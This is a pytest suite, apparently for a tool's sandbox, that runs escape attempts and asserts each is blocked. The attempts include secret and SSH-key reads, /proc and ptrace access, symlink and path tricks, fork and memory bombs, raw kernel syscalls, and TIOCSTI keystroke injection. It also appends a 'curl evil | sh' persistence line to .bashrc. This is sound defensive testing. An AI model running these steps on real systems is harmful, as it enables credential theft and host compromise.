"""The escape suite: real attacks run under execute(), each contained, the host untouched.

Every program runs as the unprivileged path a normal user gets (the launcher drops
root to uid 65534). Secrets are world-readable and the decoy shares the sandbox's uid,
so only the sandbox stands in the way. Network attacks aim only at listeners these
tests open on 127.0.0.1 or ::1. A missing layer makes execute() refuse, so on a machine
that lacks one these tests fail instead of skipping.
"""

import contextlib
import os
import signal
import socket
import subprocess
import time
import tty
import uuid

import pytest
from escape_harness import (
    SECRETS,
    TOOLSMITH,
    decoy,
    listener,
    make_world,
    process_state,
    readable_without_sandbox,
    received_nothing,
    remove_world,
)


@pytest.fixture
def world():
    made = make_world()
    yield made
    made.assert_host_unaffected()
    remove_world(made)


@pytest.fixture
def victim():
    process = decoy()
    yield process
    process.kill()
    process.wait()


def failed(value: str) -> bool:
    return not value.startswith("ok")


# ---------------------------------------------------------------- network


@pytest.mark.parametrize(
    "family,host", [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")], ids=["ipv4", "ipv6"]
)
def test_tcp_connection_to_a_loopback_listener_is_refused(world, family, host):
    server = listener(family, socket.SOCK_STREAM, (host, 0))
    port = server.getsockname()[1]
    got = world.report(
        """
        attempt("connect", lambda: socket.create_connection((ARGS[0], ARGS[1]), timeout=2))
        done()
        """, host, port,
    )
    assert got["connect"] == "EPERM"  # seccomp refuses socket() itself
    assert received_nothing(server)
    server.close()


@pytest.mark.parametrize(
    "family,host", [(socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")], ids=["ipv4", "ipv6"]
)
def test_udp_datagram_to_a_loopback_listener_never_arrives(world, family, host):
    server = listener(family, socket.SOCK_DGRAM, (host, 0))
    port = server.getsockname()[1]
    got = world.report(
        """
        family = socket.AF_INET6 if ":" in ARGS[0] else socket.AF_INET
        attempt("sendto", lambda: socket.socket(family, socket.SOCK_DGRAM).sendto(b"leak", (ARGS[0], ARGS[1])))
        done()
        """, host, port,
    )
    assert got["sendto"] == "EPERM"
    time.sleep(0.05)
    assert received_nothing(server)
    server.close()


def test_raw_packet_and_netlink_sockets_are_refused(world):
    got = world.report(
        """
        attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
        attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
        attempt("netlink", lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0))
        attempt("unix", lambda: socket.socket(socket.AF_UNIX, socket.SOCK_STREAM))
        done()
        """
    )
    assert got == {"raw": "EPERM", "packet": "EPERM", "netlink": "EPERM", "unix": "EPERM"}


def test_listening_on_a_port_the_host_could_reach_is_refused(world):
    got = world.report(
        """
        def serve():
            s = socket.socket()
            s.bind(("127.0.0.1", 0))
            s.listen()
            return s.getsockname()[1]
        attempt("listen", serve)
        done()
        """
    )
    assert failed(got["listen"])


def test_abstract_unix_socket_of_the_host_is_unreachable(world):
    name = f"\0toolsmith-escape-{uuid.uuid4().hex}"
    server = listener(socket.AF_UNIX, socket.SOCK_STREAM, name)
    got = world.report(
        """
        def connect():
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(ARGS[0])
        attempt("abstract", connect)
        done()
        """, name,
    )
    assert failed(got["abstract"])
    assert received_nothing(server)
    server.close()


@pytest.mark.parametrize("where", ["inbox", "home"])
def test_pathname_unix_socket_is_unreachable_even_inside_a_read_path(world, where):
    # Inside the read path the socket file is visible and Landlock < ABI 9 allows the
    # connect: only the refused socket() call keeps the tool away from it.
    path = (world.inbox if where == "inbox" else world.home) / "agent.sock"
    server = listener(socket.AF_UNIX, socket.SOCK_STREAM, str(path))
    os.chmod(path, 0o777)
    world.before = world.snapshot()
    got = world.report(
        """
        def connect():
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(ARGS[0])
        attempt("connect", connect)
        done()
        """, path,
    )
    assert got["connect"] == "EPERM"
    assert received_nothing(server)
    server.close()


# ---------------------------------------------------------------- files


def test_the_secrets_are_readable_by_the_sandbox_uid_without_the_sandbox(world):
    # Attribution: file permissions alone would let the tool read every secret.
    for name in SECRETS:
        assert readable_without_sandbox(world.secret(name))


def test_secrets_outside_the_read_paths_cannot_be_read_or_listed(world):
    got = world.report(
        """
        for i, path in enumerate(ARGS[0]):
            attempt(f"read{i}", lambda: open(path, "rb").read())
        attempt("list", lambda: os.listdir(ARGS[1]))
        attempt("stat", lambda: os.stat(ARGS[0][0]).st_size)
        done()
        """, [str(world.secret(n)) for n in SECRETS], world.home,
    )
    assert all(failed(v) for v in got.values()), got
    assert not any(marker in str(got) for marker in ("canary", "id_rsa"))


def test_writes_outside_the_write_paths_never_reach_the_host(world):
    tag = uuid.uuid4().hex  # unique names: a broken sandbox must not touch real files
    dropped, var_tmp = f"/tmp/toolsmith-escape-dropped-{tag}", f"/var/tmp/toolsmith-escape-{tag}"
    got = world.report(
        """
        attempt("append_bashrc", lambda: open(ARGS[0] + "/.bashrc", "a").write("curl evil | sh\\n"))
        attempt("var_tmp", lambda: open(ARGS[3], "w").write("x"))
        attempt("usr_local", lambda: open("/usr/local/bin/toolsmith-escape-" + ARGS[4], "w").write("x"))
        # /tmp is the sandbox's own tmpfs: these may succeed but must not reach the host
        open(ARGS[2], "w").write("x")
        os.makedirs(ARGS[0] + "/.config/autostart", exist_ok=True)
        open(ARGS[0] + "/.config/autostart/evil.desktop", "w").write("x")
        done()
        """, world.home, world.root, dropped, var_tmp, tag,
    )
    assert all(failed(v) for v in got.values()), got
    assert not os.path.exists(dropped) and not (world.home / ".config").exists()
    assert not os.path.exists(var_tmp) and not os.path.exists(f"/usr/local/bin/toolsmith-escape-{tag}")


def test_read_paths_are_read_only(world):
    data = world.inbox / "data.txt"
    got = world.report(
        """
        attempt("write", lambda: open(ARGS[0], "w").write("changed"))
        attempt("truncate", lambda: os.truncate(ARGS[0], 0))
        attempt("chmod", lambda: os.chmod(ARGS[0], 0o777))
        attempt("delete", lambda: os.unlink(ARGS[0]))
        attempt("create", lambda: open(ARGS[1] + "/new.txt", "w"))
        done()
        """, data, world.inbox,
    )
    assert all(failed(v) for v in got.values()), got


def test_a_symlink_in_the_write_path_does_not_lead_to_a_secret(world):
    got = world.report(
        """
        link = ARGS[1] + "/innocent.txt"
        os.symlink(ARGS[0], link)
        attempt("read_through_link", lambda: open(link, "rb").read())
        os.symlink(ARGS[2], ARGS[1] + "/homelink")
        attempt("write_through_dir_link", lambda: open(ARGS[1] + "/homelink/.profile", "w").write("x"))
        done()
        """, world.secret(), world.outbox, world.home,
    )
    assert failed(got["read_through_link"]) and failed(got["write_through_dir_link"])


def test_hardlinks_to_files_outside_cannot_be_made(world):
    got = world.report(
        """
        attempt("link_secret", lambda: os.link(ARGS[0], ARGS[1] + "/stolen"))
        attempt("link_input", lambda: os.link(ARGS[2], ARGS[1] + "/input-link"))
        done()
        """, world.secret(), world.outbox, world.inbox / "data.txt",
    )
    assert failed(got["link_secret"]) and failed(got["link_input"])
    assert not (world.outbox / "stolen").exists() and not (world.outbox / "input-link").exists()


def test_renames_cannot_move_files_across_the_boundary(world):
    got = world.report(
        """
        open(ARGS[0] + "/payload", "w").write("x")
        attempt("out_to_home", lambda: os.rename(ARGS[0] + "/payload", ARGS[1] + "/.bash_login"))
        attempt("inbox_to_out", lambda: os.rename(ARGS[2], ARGS[0] + "/taken.txt"))
        attempt("secret_to_out", lambda: os.rename(ARGS[3], ARGS[0] + "/key"))
        done()
        """, world.outbox, world.home, world.inbox / "data.txt", world.secret(),
    )
    assert all(failed(v) for v in got.values()), got


def test_dot_dot_paths_stay_inside(world):
    got = world.report(
        """
        attempt("relative", lambda: open("../home/.ssh/id_rsa", "rb").read())
        attempt("absolute", lambda: open(ARGS[0] + "/../home/.ssh/id_rsa", "rb").read())
        attempt("deep", lambda: open(ARGS[0] + "/" + "../" * 12 + ARGS[1].lstrip("/"), "rb").read())
        done()
        """, world.outbox, world.secret(), cwd=str(world.outbox),
    )
    assert all(failed(v) for v in got.values()), got


def test_the_interpreter_and_system_trees_cannot_be_modified(world):
    got = world.report(
        """
        import sysconfig
        attempt("stdlib", lambda: open(sysconfig.get_paths()["stdlib"] + "/os.py", "a"))
        attempt("venv", lambda: open(sys.prefix + "/pyvenv.cfg", "a"))
        attempt("usr", lambda: open("/usr/bin/toolsmith-escape-" + ARGS[0], "w"))
        attempt("etc", lambda: open("/etc/passwd", "a"))
        attempt("root_dir", lambda: os.mkdir("/toolsmith-escape-" + ARGS[0]))
        done()
        """, uuid.uuid4().hex,
    )
    assert all(failed(v) for v in got.values()), got


def test_device_files_are_absent_or_denied(world):
    got = world.report(
        """
        for dev in ("/dev/kmsg", "/dev/mem", "/dev/vda", "/dev/loop0", "/dev/tty", "/dev/input/event0", "/dev/sda"):
            attempt(dev, lambda: open(dev, "rb", buffering=0).read(1))
        attempt("mknod", lambda: os.mknod(ARGS[0] + "/null2", 0o666 | 0o020000, os.makedev(1, 3)))
        attempt("null_works", lambda: open("/dev/null", "w").write("ok"))
        done()
        """, world.outbox,
    )
    assert got.pop("null_works").startswith("ok")
    assert all(failed(v) for v in got.values()), got


def test_a_planted_setuid_root_binary_gives_no_privilege(world):
    planted = world.inbox / "id"
    subprocess.run(["cp", "/usr/bin/id", str(planted)], check=True)
    os.chown(planted, 0, 0)
    os.chmod(planted, 0o4755)
    world.before = world.snapshot()
    got = world.report(
        """
        import subprocess
        attempt("euid", lambda: subprocess.run([ARGS[0], "-u"], capture_output=True, text=True).stdout.strip())
        done()
        """, planted,
    )
    assert got["euid"] not in ("ok: 0", "ok: ")
    assert got["euid"].startswith("ok: ")


# ---------------------------------------------------------------- processes and /proc


def test_the_host_processes_and_their_proc_entries_are_invisible(world, monkeypatch):
    monkeypatch.setenv("TOOLSMITH_TEST_HOST_TOKEN", "canary-env-31b7")
    host = os.getpid()
    got = world.report(
        """
        host = ARGS[0]
        attempt("environ", lambda: open(f"/proc/{host}/environ", "rb").read())
        attempt("root", lambda: open(f"/proc/{host}/root{ARGS[1]}", "rb").read())
        attempt("mem", lambda: open(f"/proc/{host}/mem", "rb").read(16))
        attempt("cwd", lambda: os.listdir(f"/proc/{host}/cwd"))
        attempt("init_environ", lambda: open("/proc/1/environ", "rb").read())
        attempt("init_root", lambda: os.listdir("/proc/1/root" + ARGS[2]))
        RESULTS["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
        done()
        """, host, world.secret(), world.home,
    )
    pids = got.pop("pids")
    assert host not in pids and len(pids) <= 3  # PID 1, the runner: its own namespace
    assert all(failed(v) or "canary" not in v for v in got.values()), got
    assert failed(got["root"]) and failed(got["mem"]) and failed(got["init_root"])


def test_the_environment_holds_no_host_secrets(world, monkeypatch):
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "canary-env-aws-9e4d")
    monkeypatch.setenv("SSH_AUTH_SOCK", "/run/user/0/ssh-agent")
    got = world.report(
        """
        RESULTS["environ"] = dict(os.environ)
        RESULTS["proc"] = open("/proc/self/environ", "rb").read().decode()
        done()
        """
    )
    assert "canary" not in str(got)
    assert set(got["environ"]) <= {"PATH", "HOME", "TMPDIR", "LANG", "LC_ALL", "TZ", "PYTHONNOUSERSITE",
                                   "PYTHONDONTWRITEBYTECODE", "PWD", "LC_CTYPE"}


def test_no_host_file_descriptor_leaks_in(world):
    with open(world.secret(), "rb"):  # an fd the launcher's process has open
        got = world.report(
            """
            RESULTS["open"] = sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
            for fd in range(3, 1024):
                attempt(f"fd{fd}", lambda: os.read(fd, 100))
            RESULTS = {k: v for k, v in RESULTS.items() if k == "open" or not v.startswith("EBADF")}
            done()
            """
        )
    assert len(got) == 1 and len(got["open"]) <= 4  # 0, 1, 2 and the listing's own fd


def test_ptrace_and_process_vm_readv_on_a_host_process_fail(world, victim):
    got = world.report(
        """
        libc = ctypes.CDLL(None, use_errno=True)
        def call(*args):
            if libc.syscall(*args) < 0:
                raise OSError(ctypes.get_errno(), "")
        attempt("attach", lambda: call(101, 16, ARGS[0], 0, 0))  # PTRACE_ATTACH
        attempt("seize", lambda: call(101, 0x4206, ARGS[0], 0, 0))  # PTRACE_SEIZE
        attempt("traceme", lambda: call(101, 0, 0, 0, 0))
        buf = ctypes.create_string_buffer(64)
        iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 64)
        attempt("vm_readv", lambda: call(310, ARGS[0], iov, 1, iov, 1, 0))
        done()
        """, victim.pid,
    )
    assert all(failed(v) for v in got.values()), got
    assert process_state(victim.pid) == "S"


def test_signals_cannot_reach_host_processes(world, victim):
    got = world.report(
        """
        attempt("kill_victim", lambda: os.kill(ARGS[0], signal.SIGKILL))
        attempt("kill_launcher", lambda: os.kill(ARGS[1], signal.SIGTERM))
        attempt("kill_all", lambda: os.kill(-1, signal.SIGKILL))
        done()
        """, victim.pid, os.getpid(),
    )
    assert failed(got["kill_victim"]) and failed(got["kill_launcher"])
    assert victim.poll() is None and process_state(victim.pid) == "S"


def test_a_setsid_grandchild_does_not_outlive_the_timeout(world):
    marker = f"escape-{uuid.uuid4().hex}"
    result = world.run(
        """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                sys.argv[0] = ARGS[1]
                while True:
                    with open(ARGS[0] + "/heartbeat", "a") as f:
                        f.write("beat\\n")
                    time.sleep(0.05)
            os._exit(0)
        while not os.path.exists(ARGS[0] + "/heartbeat"):
            time.sleep(0.01)
        print("started", flush=True)
        time.sleep(60)
        """, world.outbox, marker, timeout=3,
    )
    assert result.timed_out and result.exit_code == 124 and b"started" in result.stdout
    beats = (world.outbox / "heartbeat").read_text()
    time.sleep(0.5)
    assert (world.outbox / "heartbeat").read_text() == beats
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(FileNotFoundError, ProcessLookupError), open(f"/proc/{pid}/cmdline", "rb") as f:
            assert marker.encode() not in f.read()


def test_background_processes_die_with_the_command(world):
    result = world.run(
        """
        if os.fork() == 0:
            os.setsid()
            time.sleep(1)
            open(ARGS[0] + "/late", "w").write("still alive")
            os._exit(0)
        """, world.outbox,
    )
    assert result.exit_code == 0
    time.sleep(1.3)
    assert not (world.outbox / "late").exists()


# ---------------------------------------------------------------- resources


def test_a_fork_bomb_hits_the_process_limit(world):
    got = world.report(
        """
        children = []
        attempt("bomb", lambda: [children.append(os.fork() or (time.sleep(30), os._exit(0))) for _ in range(2000)])
        RESULTS["forked"] = len(children)
        done()
        """, max_processes=24,
    )
    assert got["bomb"] == "EAGAIN"
    assert got["forked"] < 24


def test_a_memory_bomb_gets_memory_error_not_the_host(world):
    result = world.run(
        """
        hoard = []
        try:
            for _ in range(128):
                hoard.append(bytearray(64 * 1024 * 1024))
        except MemoryError:
            print("MemoryError after", len(hoard))
        """, memory_mb=256,
    )
    assert result.exit_code == 0 and b"MemoryError" in result.stdout
    assert result.usage.max_rss_kb < 300 * 1024


def test_filling_tmp_stops_at_its_size_and_never_touches_the_host(world):
    name = f"toolsmith-fill-{uuid.uuid4().hex}"
    got = world.report(
        """
        written = 0
        def fill():
            global written
            with open("/tmp/" + ARGS[0], "wb") as f:
                while written < 64 * 1024 * 1024:
                    f.write(b"x" * 65536)
                    f.flush()
                    written += 65536
        attempt("fill", fill)
        RESULTS["written"] = written
        def inodes():
            for i in range(100000):
                open(f"/tmp/n{i}", "w").close()
        attempt("inodes", inodes)
        done()
        """, name, tmp_mb=4, tmp_inodes=500,
    )
    assert got["fill"] == "ENOSPC" and got["written"] <= 4 * 1024 * 1024
    assert got["inodes"] == "ENOSPC"
    assert not os.path.exists(f"/tmp/{name}")


def test_a_huge_output_file_stops_at_the_file_size_limit(world):
    got = world.report(
        """
        def write():
            with open(ARGS[0] + "/big", "wb") as f:
                for _ in range(5 * 16):
                    f.write(b"y" * 65536)
        attempt("write", write)
        done()
        """, world.outbox, max_file_mb=1,
    )
    assert got["write"] == "EFBIG"
    assert (world.outbox / "big").stat().st_size <= 1024 * 1024


def test_an_output_flood_is_cut_off_at_the_output_limit(world):
    result = world.run("while True: sys.stdout.write('x' * 65536)", max_output_mb=1)
    assert result.killed and result.exit_code == 137 and not result.timed_out
    assert 0 < len(result.stdout) <= 1024 * 1024


def test_an_infinite_loop_is_killed_at_the_timeout(world):
    result = world.run("while True: pass", timeout=1)
    assert result.timed_out and result.exit_code == 124 and not result.killed


def test_a_busy_loop_is_killed_at_the_cpu_limit(world):
    result = world.run("while True: pass", cpu_seconds=1, timeout=30)
    assert result.killed and result.exit_code == 137 and not result.timed_out


def test_a_blocking_read_on_stdin_ends_at_once(world):
    result = world.run("print(repr(sys.stdin.read()))")
    assert result.exit_code == 0 and result.stdout == b"''\n"


# ---------------------------------------------------------------- the kernel's surface


def test_raw_syscalls_through_ctypes_are_refused(world):
    got = world.report(
        """
        libc = ctypes.CDLL(None, use_errno=True)
        def call(nr, *args):
            if libc.syscall(nr, *args) < 0:
                raise OSError(ctypes.get_errno(), "")
        calls = {
            "unshare_user": (272, 0x10000000), "unshare_net": (272, 0x40000000),
            "clone_newuser": (56, 0x10000000 | 17, 0, 0, 0, 0), "setns": (308, 0, 0),
            "mount": (165, b"none", b"/tmp", b"tmpfs", 0, None), "umount": (166, b"/proc", 2),
            "pivot_root": (155, b"/tmp", b"/tmp"), "chroot": (161, b"/tmp"),
            "bpf": (321, 0, None, 0), "keyctl": (250, 0, 0), "add_key": (248, b"user", b"x", b"y", 1, -3),
            "io_uring_setup": (425, 8, ctypes.create_string_buffer(120)),
            "perf_event_open": (298, None, 0, -1, -1, 0), "userfaultfd": (323, 0),
            "init_module": (175, None, 0, b""), "kexec_load": (246, 0, 0, None, 0),
            "open_by_handle_at": (304, -100, None, 0), "personality": (135, 0x0040000),
            "reboot": (169, 0xfee1dead, 672274793, 0x4321fedc, None),
        }
        for name, args in calls.items():
            attempt(name, lambda: call(*args))
        done()
        """
    )
    assert all(failed(v) for v in got.values()), got
    assert got["unshare_user"] == "EPERM" and got["mount"] == "EPERM" and got["bpf"] == "EPERM"


@pytest.mark.parametrize(
    "program",
    [
        # getpid through the 32-bit entry point: mov eax, 20; int 0x80; ret
        """
        import mmap
        code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        code.write(bytes.fromhex("b814000000cd80c3"))
        address = ctypes.addressof(ctypes.c_char.from_buffer(code))
        print("returned", ctypes.CFUNCTYPE(ctypes.c_int)(address)())
        """,
        # getpid (39) with the x32 bit set
        """
        print("returned", ctypes.CDLL(None).syscall(0x40000000 | 39))
        """,
    ],
    ids=["int80", "x32"],
)
def test_foreign_syscall_abis_kill_the_process(world, program):
    result = world.run(program)
    assert result.exit_code == 128 + signal.SIGSYS and b"returned" not in result.stdout


def test_nested_namespaces_from_tools_fail(world):
    result = world.run(
        """
        import subprocess
        done = subprocess.run(["unshare", "-r", "-n", "true"], capture_output=True)
        print(done.returncode)
        """
    )
    assert result.exit_code == 0 and result.stdout.strip() != b"0"


def test_shell_and_subprocesses_inherit_every_layer(world):
    got = world.report(
        """
        import subprocess
        stolen = ARGS[1] + "/stolen"
        RESULTS["system"] = os.system(f"cat {ARGS[0]} > {stolen} 2>/dev/null")
        done_ = subprocess.run(["/bin/sh", "-c", f"cat {ARGS[0]}"], capture_output=True)
        RESULTS["sh"] = done_.stdout.decode()
        status = subprocess.run(["grep", "-E", "^(Seccomp|NoNewPrivs|Uid|CapEff|CapPrm):", "/proc/self/status"],
                                capture_output=True, text=True).stdout
        RESULTS["status"] = status
        done()
        """, world.secret(), world.outbox,
    )
    assert got["system"] != 0 and got["sh"] == ""
    assert (world.outbox / "stolen").read_bytes() == b""
    assert "Seccomp:\t2" in got["status"] and "NoNewPrivs:\t1" in got["status"]
    assert "Uid:\t0" not in got["status"]
    assert "CapEff:\t0000000000000000" in got["status"] and "CapPrm:\t0000000000000000" in got["status"]


def test_the_sandbox_has_its_own_hostname_and_no_sysfs(world):
    got = world.report(
        """
        RESULTS["hostname"] = socket.gethostname()
        attempt("sys", lambda: os.listdir("/sys"))
        attempt("net", lambda: os.listdir("/sys/class/net"))
        done()
        """
    )
    assert got["hostname"] == "sandbox" != socket.gethostname()
    assert got["sys"] in ("ok: []", "EACCES") and failed(got["net"])


def test_tiocsti_cannot_inject_keystrokes_into_the_terminal(world):
    # The tool gets a real terminal on stdin/stdout/stderr (through `sandbox exec`,
    # which passes them through) and tries to push "id\n" into its input queue.
    master, slave = os.openpty()
    tty.setraw(slave)
    program = (
        "import fcntl, termios\n"
        "out = []\n"
        "for fd in (0, 1, 2):\n"
        "    try:\n"
        "        [fcntl.ioctl(fd, termios.TIOCSTI, c) for c in (b'i', b'd', b'\\n')]\n"
        "        out.append('ok')\n"
        "    except OSError as e:\n"
        "        out.append(e.errno)\n"
        "print(out)\n"
    )
    cli = subprocess.Popen(
        [TOOLSMITH, "sandbox", "exec", "--", "python3", "-c", program],
        stdin=slave, stdout=slave, stderr=slave, start_new_session=True,
    )
    assert cli.wait(timeout=60) == 0
    printed = os.read(master, 4096)
    assert b"[1, 1, 1]" in printed  # EPERM on every terminal fd
    os.set_blocking(slave, False)
    with pytest.raises(BlockingIOError):
        os.read(slave, 100)  # nothing was injected
    os.close(master)
    os.close(slave)

